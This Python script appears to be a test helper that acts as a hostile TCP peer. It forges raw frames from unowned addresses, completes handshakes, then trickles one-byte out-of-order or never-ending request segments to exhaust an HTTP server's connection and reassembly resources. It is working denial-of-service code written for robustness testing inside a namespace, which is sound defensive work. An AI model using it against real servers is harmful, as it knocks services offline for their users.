#!/usr/bin/env python3
"""A hostile TCP peer for the attack tests (root, inside the test's namespace).

    tcp_attack.py MODE IFACE DST_MAC DST_IP SRC_PREFIX CONNS SEGS SECS

Handshakes are made with raw frames (AF_PACKET on IFACE) from addresses
SRC_PREFIX.10 .. SRC_PREFIX.59 that the namespace's kernel does not own (it drops
the server's answers without a reset), then each connection sends SEGS one-byte
segments, round after round across the connections:

    ooo      just beyond a one-byte hole (out of order: the server must hold them)
    inorder  in order, the start of a request head that never ends

Sending stops after SECS seconds at the latest. Prints "established N sent M".
"""
import os
import random
import socket
import struct
import sys
import time

ETH_P_IP = 0x0800


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def frame(src_mac, dst_mac, src, dst, sport, dport, seq, ack, flags, payload=b"", mss=False):
    opts = struct.pack("!BBH", 2, 4, 1460) if mss else b""
    off = (20 + len(opts)) // 4
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, off << 4, flags, 65535, 0, 0) + opts + payload
    pseudo = src + dst + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return dst_mac + src_mac + struct.pack("!H", ETH_P_IP) + ip + tcp


def main():
    mode, iface, dst_mac, dst_ip, prefix = sys.argv[1:6]
    conns, segs, secs = int(sys.argv[6]), int(sys.argv[7]), float(sys.argv[8])
    end = time.time() + secs
    src_mac = bytes.fromhex(open("/sys/class/net/%s/address" % iface).read().strip().replace(":", ""))
    dst_mac = bytes.fromhex(dst_mac.replace(":", ""))
    dst = socket.inet_aton(dst_ip)
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_IP))
    s.bind((iface, 0))
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8 << 20)
    s.setblocking(False)
    rng = random.Random(7)
    # (source address, source port) -> [our next sequence number, the server's]
    conn = {}
    for i in range(conns):
        src = socket.inet_aton("%s.%d" % (prefix, 10 + i % 50))
        sport = 20000 + i
        isn = rng.getrandbits(32)
        conn[(src, sport)] = [isn, None]
        s.send(frame(src_mac, dst_mac, src, dst, sport, 80, isn, 0, 0x02, mss=True))
    # SYN-ACKs (resent SYNs for what is missing, once a second).
    waiting = len(conn)
    last_resend = time.time()
    while waiting and time.time() < end:
        try:
            f = s.recv(4096)
        except BlockingIOError:
            if time.time() - last_resend > 1.0:
                last_resend = time.time()
                for (src, sport), (isn, peer) in conn.items():
                    if peer is None:
                        s.send(frame(src_mac, dst_mac, src, dst, sport, 80, isn, 0, 0x02, mss=True))
            time.sleep(0.001)
            continue
        if len(f) < 54 or f[12:14] != b"\x08\x00" or f[23] != 6 or f[26:30] != dst:
            continue
        ihl = (f[14] & 15) * 4
        t = 14 + ihl
        sport, dport, seq, ack, _, flags = struct.unpack("!HHIIBB", f[t : t + 14])
        key = (f[30:34], dport)
        c = conn.get(key)
        if c is None or c[1] is not None or flags & 0x12 != 0x12 or sport != 80:
            continue
        c[0] = (c[0] + 1) & 0xFFFFFFFF
        c[1] = (seq + 1) & 0xFFFFFFFF
        s.send(frame(src_mac, dst_mac, key[0], dst, dport, 80, c[0], c[1], 0x10))
        waiting -= 1
    established = [(k, v) for k, v in conn.items() if v[1] is not None]
    head = b"GET /" + b"a" * 4096
    sent = 0
    for k in range(segs):
        if time.time() >= end:
            break
        for (src, sport), (seq, peer) in established:
            if mode == "ooo":
                # One byte at offset 1 + k: offset 0 never comes.
                data, at = b"x", seq + 1 + k
            else:
                data, at = head[k : k + 1], seq + k
            s.send(frame(src_mac, dst_mac, src, dst, sport, 80, at & 0xFFFFFFFF, peer, 0x18, data))
            sent += 1
        # Drain what the server answered (not needed; keeps the socket's buffer low).
        try:
            while True:
                s.recv(4096)
        except BlockingIOError:
            pass
    print("established %d sent %d" % (len(established), sent))
    return 0 if established else 1


if __name__ == "__main__":
    sys.exit(main())
